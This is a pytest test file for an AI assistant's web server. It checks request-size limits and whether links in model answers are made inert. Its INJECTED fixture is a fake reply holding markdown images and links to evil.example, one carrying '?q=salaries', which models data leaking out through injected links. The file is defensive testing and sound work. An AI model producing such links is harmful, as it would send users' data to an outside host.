"""Input limits and answers that link out: a large body, long earlier turns, a document's injected links."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from assistant.audit import SYSTEM
from tests.fake_ollama import FakeOllama, FakeOllamaScript
from tests.ui.conftest import World, build_world

INJECTED = ("Employees fly economy class under six hours [1]. ![chart](https://evil.example/p.png?q=salaries) "
            "See [the form](http://evil.example/form) or <https://evil.example/x>, www.evil.example/y and "
            "<img src=//evil.example/i.png>.")


@pytest.fixture(scope="module")
def world(embedder: Any, tmp_path_factory: pytest.TempPathFactory, serve: Any) -> Iterator[World]:
    root = tmp_path_factory.mktemp("limits")
    (root / "hr").mkdir()
    (root / "hr" / "travel.md").write_text("# Travel\n\nEmployees fly economy class under six hours.\n")
    with FakeOllama(FakeOllamaScript(reply=INJECTED)) as fake:
        built = build_world(root, embedder, fake, {"hr": root / "hr"}, ["hr"], web={"max_request_kb": 64})
        serve(built)
        yield built
        built.services.close()


@pytest.fixture(scope="module")
def api(world: World) -> Iterator[httpx.Client]:
    _, secret = world.services.web.tokens.create(SYSTEM, "alice", "limits")
    with httpx.Client(base_url=world.url, timeout=60, headers={"authorization": f"Bearer {secret}"}) as client:
        yield client


def ask(question: str, history: list[dict[str, str]] | None = None, **extra: Any) -> dict[str, Any]:
    return {"model": "enclave", "messages": [*(history or []), {"role": "user", "content": question}], **extra}


def test_a_body_over_the_limit_is_refused_with_413_whatever_its_framing(world: World, api: httpx.Client) -> None:
    long_turns = [{"role": "user", "content": "x" * 3000}, {"role": "assistant", "content": "y" * 3000}] * 20
    refused = api.post("/v1/chat/completions", json=ask("and dental?", long_turns, retrieve_only=True))
    assert refused.status_code == 413
    assert "larger than this server accepts (64 KiB" in refused.json()["error"]["message"]

    def chunks() -> Iterator[bytes]:  # no content-length: the body is counted as it arrives
        yield b'{"model": "enclave", "messages": [{"role": "user", "content": "'
        for _ in range(100):
            yield b"z" * 1024
        yield b'"}]}'

    streamed = api.post("/v1/chat/completions", content=chunks(), headers={"content-type": "application/json"})
    assert streamed.status_code == 413
    with httpx.Client(base_url=world.url, timeout=60) as anyone:
        form = anyone.post("/login", data={"username": "alice", "password": "p" * 70_000})
        assert form.status_code == 413
    assert api.post("/v1/chat/completions", json=ask("Which class?", retrieve_only=True)).status_code == 200


def test_an_earlier_turn_cannot_carry_what_a_question_may_not(world: World, api: httpx.Client) -> None:
    history = [{"role": "user", "content": "travel " * 1000}, {"role": "assistant", "content": "Economy."}]
    refused = api.post("/v1/chat/completions", json=ask("and business class?", history, retrieve_only=True))
    assert refused.status_code == 400 and "earlier question" in refused.json()["error"]["message"]
    fine = [{"role": "user", "content": "Which class do employees fly?"}, {"role": "assistant", "content": "Economy."}]
    assert api.post("/v1/chat/completions", json=ask("and business?", fine, retrieve_only=True)).status_code == 200


def inert(text: str) -> None:
    assert "evil.example" not in text and "https://evil" not in text and "http://evil" not in text, text
    assert "economy class" in text.lower() and "evil[.]example" in text  # the words stay, readable


def test_links_and_images_to_other_hosts_are_inert_on_every_surface(world: World, api: httpx.Client) -> None:
    whole = api.post("/v1/chat/completions", json=ask("Which class do employees fly under six hours?"))
    assert whole.status_code == 200
    inert(whole.json()["choices"][0]["message"]["content"])
    streamed = ""
    with api.stream("POST", "/v1/chat/completions", json=ask("Which class do employees fly?", stream=True)) as sse:
        for line in sse.iter_lines():
            if line.startswith("data: {"):
                streamed += "".join(c["delta"].get("content") or "" for c in json.loads(line[6:]).get("choices", []))
    inert(streamed)
    alice = world.services.web.accounts.sign_in("alice", "alice-password-1")[0]
    chat_id = world.services.web.chats.chats(alice)[0].id
    inert(world.services.web.chats.messages(alice, chat_id)[-1].answer)  # what the web chat shows again
